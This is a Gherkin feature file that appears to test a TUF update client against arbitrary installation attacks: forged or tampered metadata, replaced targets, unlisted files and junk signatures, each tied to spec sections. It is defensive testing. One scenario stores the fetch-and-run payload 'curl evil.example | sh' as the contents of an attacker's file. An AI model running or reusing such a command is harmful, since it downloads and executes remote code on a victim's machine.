Feature: Arbitrary installation attacks
  In an arbitrary installation attack the attacker answers the client's requests
  with files of its own choosing: its own package in place of the real one, or
  metadata that lists its package. It needs only a place on the network or a
  mirror. TUF accepts a metadata file only when a threshold of the keys trusted
  for that role signed exactly those bytes: 5.3.4 for the root, 5.4.2 for the
  timestamp, 5.5.3 for the snapshot, 5.6.3 for targets and delegated roles. It
  accepts a target file only when its length and hashes match its signed targets
  entry (5.7.3), and it never downloads a target that no trusted metadata lists
  (5.7.2). The first scenario is the positive control: with no attacker, the
  client must install the genuine file.

  @arbitrary-installation @download @tuf-5.7.3
  Scenario: Without an attacker the client installs the genuine target
    Given a repository
    And the repository has target "app.tgz" containing "app 1.0"
    When the client downloads target "app.tgz"
    Then the update succeeds
    And the client wrote target "app.tgz" containing "app 1.0"

  @arbitrary-installation @tuf-layout
  Scenario Outline: A <role> file signed with a key the client does not trust is refused
    The forged <role> carries the very version the client expects next, and no
    file lists hashes of another, so only the signature check stands between the
    forged <role> and the client.
    Given a repository
    And the repository lists only versions in timestamp and snapshot meta
    And the client has refreshed
    And the repository publishes a new version
    When the attacker serves a forged <role> at version 2
    And the client refreshes
    Then the update is refused because of missing signatures
    And the client still trusts <role> version 1
    And the client updates normally once the attack stops

    @tuf-5.3.4
    Examples:
      | role |
      | root |

    @tuf-5.4.2
    Examples:
      | role      |
      | timestamp |

    @tuf-5.5.3
    Examples:
      | role     |
      | snapshot |

    @tuf-5.6.3
    Examples:
      | role    |
      | targets |

  @arbitrary-installation @delegations @download @tuf-layout @tuf-5.6.3
  Scenario: A delegated role signed with a key its delegator does not list is refused
    A delegated role is verified with the keys its delegator lists for it, exactly as
    targets is verified with the keys the root lists.
    Given a repository
    And the repository lists only versions in timestamp and snapshot meta
    And the repository has a delegation "app-team" for paths "app/*"
    And the repository has target "app/cli.tgz" containing "cli 1.0" in role "app-team"
    When the attacker serves a forged role "app-team" at version 1 listing target "app/cli.tgz" containing "malware"
    And the client downloads target "app/cli.tgz"
    Then the update is refused because of missing signatures
    And target "app/cli.tgz" was not written
    And the client updates normally once the attack stops

  @arbitrary-installation @tuf-layout
  Scenario Outline: A <role> file altered after it was signed is refused
    The attacker keeps the genuine signatures but moves the expiry date a year
    later. The key ids are right; the signatures no longer match the bytes. A client
    that checks who signed, but not what was signed, accepts it.
    Given a repository
    And the repository lists only versions in timestamp and snapshot meta
    And the client has refreshed
    And the repository publishes a new version
    When the attacker tampers with <role>, keeping its signatures
    And the client refreshes
    Then the update is refused because of missing signatures
    And the client still trusts <role> version 1
    And the client updates normally once the attack stops

    @tuf-5.4.2
    Examples:
      | role      |
      | timestamp |

    @tuf-5.5.3
    Examples:
      | role     |
      | snapshot |

    @tuf-5.6.3
    Examples:
      | role    |
      | targets |

  @arbitrary-installation @download @tuf-5.7.3
  Scenario Outline: A target replaced by <what> is refused
    Given a repository
    And the repository has target "app.tgz" containing "app 1.0"
    When the attacker replaces target "app.tgz" with "<bytes>"
    And the client downloads target "app.tgz"
    Then the update is refused because of <reason>
    And target "app.tgz" was not written
    And the client updates normally once the attack stops

    Examples:
      | what                           | bytes                   | reason                                             |
      | other bytes of the same length | evil!!!                 | a length or hash mismatch                          |
      | a longer file                  | app 1.0 with a backdoor | an oversized download or a length or hash mismatch |
      | a shorter file                 | evil                    | a length or hash mismatch                          |

  @arbitrary-installation @download @tuf-5.7.2
  Scenario: A file that no trusted metadata lists is never downloaded
    The attacker has a file ready at the address where "backdoor.sh" would be. No
    trusted metadata lists it, so the client must report it missing without asking
    for it.
    Given a repository
    And the repository has target "app.tgz" containing "app 1.0"
    When the attacker replaces target "backdoor.sh" with "curl evil.example | sh"
    And the client downloads target "backdoor.sh"
    Then the update is refused because of target not found
    And target "backdoor.sh" was not written
    And the client did not request target "backdoor.sh"

  @arbitrary-installation @tuf-5.4.2
  Scenario: An extra invalid signature does not spoil metadata that meets its threshold
    The threshold counts valid signatures from trusted keys; anything else in the
    list is ignored. A client that rejects the whole file over one junk signature
    can be kept from updating by anyone who can append one.
    Given a repository
    And the client has refreshed
    And the repository publishes a new version
    When the attacker adds an invalid signature to timestamp
    And the client refreshes
    Then the update succeeds
    And the client trusts timestamp version 2
